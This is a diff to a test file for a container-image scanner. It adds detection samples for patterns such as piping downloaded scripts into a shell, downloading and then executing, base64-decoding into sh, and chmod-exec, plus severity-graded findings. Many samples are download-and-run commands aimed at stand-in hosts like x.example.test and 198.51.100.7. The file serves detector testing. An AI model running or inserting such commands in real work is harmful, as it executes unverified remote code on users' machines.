@@ -49,8 +49,25 @@ const INDICATOR_SAMPLES: Record<string, { positive: string[]; negative: string[]
     positive: [
       'bash -c "$(curl -fsSL https://x.example.test/install.sh)"',
       'sh <(wget -qO- https://x.example.test/)',
+      'python3 -c "$(curl -fsSL https://x.example.test/p.py)"',
+      'perl -e "$(wget -qO- https://x.example.test/p)"',
+      'python3 <(curl -s https://x.example.test/p.py)',
     ],
-    negative: ['VERSION="$(curl -s https://api.example.test/latest)"'],
+    negative: [
+      'VERSION="$(curl -s https://api.example.test/latest)"',
+      'python3 -c "import json; print(1)" "$(curl -s https://x.example.test/v)"',
+    ],
+  },
+  'download-then-shell': {
+    positive: [
+      'curl -fsSL -o /tmp/i.sh https://x.example.test/i.sh && sh /tmp/i.sh',
+      'wget -O install.sh https://x.example.test/install.sh; bash install.sh --yes',
+      'curl --output=/tmp/p.py https://x.example.test/p.py && sudo python3 /tmp/p.py',
+    ],
+    negative: [
+      'curl -o /tmp/a.tgz https://x.example.test/a.tgz && tar xzf /tmp/a.tgz',
+      'curl -o /tmp/i.sh https://x.example.test/i.sh && sh /tmp/other.sh',
+    ],
   },
   'base64-pipe-shell': {
     positive: ['echo ZWNobyBoaQ== | base64 -d | sh', 'base64 --decode payload.b64 | bash'],
@@ -58,8 +75,14 @@ const INDICATOR_SAMPLES: Record<string, { positive: string[]; negative: string[]
   },
   download: { positive: ['curl -LO https://x.example.test/tool'], negative: ['echo curling is a sport'] },
   'chmod-exec': {
-    positive: ['chmod +x /usr/local/bin/tool', 'chmod 755 tool', 'chmod u+x t', 'os.chmod(p, 0o755)'],
-    negative: ['chmod 644 file', 'chmod -R go-w /app'],
+    positive: [
+      'chmod +x /usr/local/bin/tool',
+      'chmod 755 tool',
+      'chmod u+x t',
+      'os.chmod(p, 0o755)',
+      'install -m 0755 /tmp/t /usr/local/bin/t',
+    ],
+    negative: ['chmod 644 file', 'chmod -R go-w /app', 'install -m 644 a.conf /etc/a.conf'],
   },
   'checksum-verify': {
     positive: [
@@ -71,7 +94,12 @@ const INDICATOR_SAMPLES: Record<string, { positive: string[]; negative: string[]
   },
   'fetch-source': { positive: ['git clone https://git.example.test/r.git /src'], negative: ['git status'] },
   compile: {
-    positive: ['cd src && make && ./a', 'go build -o app .', 'exec gcc -O2 x.c'],
+    positive: [
+      'cd src && make && ./a',
+      'go build -o app .',
+      'exec gcc -O2 x.c',
+      '/bin/sh -c gcc -o /tmp/a /src/a.c',
+    ],
     negative: ['echo "make sure the volume is mounted"', 'cmake_minimum=3'],
   },
   'package-install': {
@@ -171,7 +199,18 @@ test('config indicators: hostile lines stay linear', () => {
     }
     return b;
   };
-  for (const unit of ['curl ', 'base64 -d ', '| ', 'chmod ', '-o pool', 'a', '4A', 'bash -c "$(']) {
+  for (const unit of [
+    'curl ',
+    'base64 -d ',
+    '| ',
+    'chmod ',
+    '-o pool',
+    'a',
+    '4A',
+    'bash -c "$(',
+    'curl -o a ',
+    'wget -O f && ',
+  ]) {
     let last = '';
     // Re-measured when off: a stalled run is noise, a quadratic pattern fails every time.
     const ok = [0, 1, 2].some(() => {
@@ -210,9 +249,21 @@ const FINDING_SAMPLES: Record<string, { positive: [ResolvedImage, string][]; neg
       [image({ ...USER, Entrypoint: ['sh', '-c', 'curl -s http://198.51.100.7/x | sh'] }), 'high'],
       [image(USER, [{ created_by: 'RUN /bin/sh -c curl -s https://x.example.test/i.sh | bash' }]), 'medium'],
       [image(USER, [{ created_by: 'RUN /bin/sh -c curl https://sh.rustup.rs -sSf | sh -s -- -y' }]), 'low'],
+      [image({ ...USER, Cmd: ['sh', '-c', 'python3 -c "$(curl -fsSL http://198.51.100.7/p)"'] }), 'high'],
+      [
+        image(USER, [{ created_by: 'RUN /bin/sh -c wget -O i.sh https://x.example.test/i.sh; bash i.sh' }]),
+        'medium',
+      ],
     ],
     negative: [
       image(USER, [{ created_by: 'RUN curl -fsSL https://x.example.test/k.asc | gpg --dearmor -o /k.gpg' }]),
+      // Saved, verified, then run.
+      image(USER, [
+        {
+          created_by:
+            'RUN curl -o /tmp/i.sh https://x.example.test/i.sh && echo "ab  /tmp/i.sh" | sha256sum -c - && sh /tmp/i.sh',
+        },
+      ]),
     ],
   },
   'download-chmod-exec': {
